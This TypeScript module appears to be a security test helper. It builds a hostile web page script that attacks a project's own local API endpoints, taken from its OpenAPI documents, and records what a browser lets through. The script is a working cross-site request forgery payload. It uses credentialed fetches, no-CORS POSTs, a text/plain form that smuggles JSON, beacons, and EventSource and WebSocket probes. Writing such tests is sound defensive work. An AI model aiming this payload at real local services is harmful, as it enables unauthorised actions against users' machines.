/** A hostile web page: its attempts in a browser on addresses of this machine, and their results. */
import { readFileSync } from 'node:fs';

export interface Target {
  readonly method: string;
  readonly url: string;
  readonly body: unknown;
}

export interface Attempt {
  readonly how: string;
  readonly target: string;
  /** The content that the page could read; empty if none. */
  readonly read: string;
}

interface Operation {
  readonly requestBody?: { readonly content: Readonly<Record<string, { readonly example?: unknown }>> };
}

/** Every operation of an OpenAPI document at an address, with example bodies. */
export function targetsOf(document: string, base: string): Target[] {
  const { paths }: { paths: Record<string, Record<string, Operation>> } = JSON.parse(
    readFileSync(new URL(`../../docs/openapi/${document}.json`, import.meta.url), 'utf8'),
  );
  return Object.entries(paths).flatMap(([path, operations]) =>
    Object.entries(operations).map(([method, { requestBody }]) => ({
      method: method.toUpperCase(),
      url: `${base}${path.replace(/\{\w+\}/g, 'evil')}`,
      body: Object.values(requestBody?.content ?? {})[0]?.example ?? { id: 'evil', name: 'evil' },
    })),
  );
}

/** Runs in the page. Tries every way in which HTML and scripts can send something to another origin unasked. */
export const attackScript = `async (targets) => {
  const attempts = [];
  const note = (how, target, read) => attempts.push({ how, target: target.method + ' ' + target.url, read });
  const within = () => AbortSignal.timeout(1500);
  const fetched = async (how, target, init) => {
    const answer = await fetch(target.url, { credentials: 'include', signal: within(), ...init }).catch(() => undefined);
    if (answer === undefined || answer.type === 'opaque') return note(how, target, '');
    const text = answer.ok ? await answer.text().catch(() => 'a stream') : '';
    note(how, target, answer.ok ? 'status ' + answer.status + ' ' + text.slice(0, 200) : '');
  };
  const submitted = (target, enctype, frame) => new Promise((resolve) => {
    const form = document.createElement('form');
    Object.assign(form, { method: 'POST', action: target.url, target: frame.name, enctype });
    const members = enctype === 'text/plain' ? { [JSON.stringify(target.body).slice(0, -1) + ',"x":"']: '"}' } : target.body;
    for (const [name, value] of Object.entries(Object(members))) {
      const input = document.createElement('input');
      Object.assign(input, { type: 'hidden', name, value: typeof value === 'string' ? value : JSON.stringify(value) });
      form.append(input);
    }
    document.body.append(form);
    const done = () => { clearTimeout(timer); form.remove(); resolve(); };
    const timer = setTimeout(done, 1500);
    frame.onload = done;
    form.submit();
  });
  const loaded = (how, name, target) => new Promise((resolve) => {
    const element = document.createElement(name);
    const done = (read) => { element.remove(); note(how, target, read); resolve(); };
    const timer = setTimeout(() => done(''), 1500);
    element.onerror = () => { clearTimeout(timer); done(''); };
    element.onload = () => { clearTimeout(timer); done(name === 'script' || name === 'img' ? 'loaded' : ''); };
    if (name === 'link') Object.assign(element, { rel: 'stylesheet', href: target.url });
    else element.src = target.url;
    document.head.append(element);
  });
  const opened = (how, make, target) => new Promise((resolve) => {
    const source = make();
    const done = (read) => { clearTimeout(timer); source.close(); note(how, target, read); resolve(); };
    const timer = setTimeout(() => done(''), 1500);
    source.onopen = () => done('open');
    source.onerror = () => done('');
  });
  const beacons = (target) => navigator.sendBeacon(target.url, new Blob([JSON.stringify(target.body)], { type: 'text/plain' }));
  const attack = async (target, frame) => {
    const body = JSON.stringify(target.body);
    if (target.method === 'GET') {
      await fetched('fetch', target, {});
      await fetched('fetch without CORS', target, { mode: 'no-cors' });
      await loaded('img', 'img', target);
      await loaded('script', 'script', target);
      await loaded('link', 'link', target);
      await opened('EventSource', () => new EventSource(target.url, { withCredentials: true }), target);
      // Browsers make a page wait between WebSockets that fail: one for each kind of path.
      if (/mcp$|stream|health|agents$/.test(target.url)) {
        await opened('WebSocket', () => new WebSocket(target.url.replace('http', 'ws')), target);
      }
      return;
    }
    const type = (name) => ({ headers: { 'content-type': name } });
    await fetched('fetch of JSON', target, { method: target.method, body: target.method === 'DELETE' ? undefined : body, ...type('application/json') });
    if (target.method !== 'POST') return;
    for (const name of ['text/plain', 'application/x-www-form-urlencoded', 'text/plain;application/json']) {
      await fetched('POST of ' + name, target, { method: 'POST', body, ...type(name) });
      await fetched('POST of ' + name + ' without CORS', target, { method: 'POST', mode: 'no-cors', body, ...type(name) });
    }
    const multipart = new FormData();
    multipart.append('file', new Blob([body], { type: 'application/json' }), 'x.json');
    await fetched('POST of multipart/form-data', target, { method: 'POST', mode: 'no-cors', body: multipart });
    await fetched('POST without a type', target, { method: 'POST', mode: 'no-cors', body: new Blob([body]) });
    beacons(target);
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) await submitted(target, enctype, frame);
  };
  const queue = [...targets];
  await Promise.all([0, 1, 2, 3, 4, 5].map(async (nth) => {
    const frame = document.createElement('iframe');
    frame.name = 'sink-' + nth;
    document.body.append(frame);
    for (let target = queue.shift(); target !== undefined; target = queue.shift()) await attack(target, frame);
  }));
  return JSON.stringify(attempts);
}`;
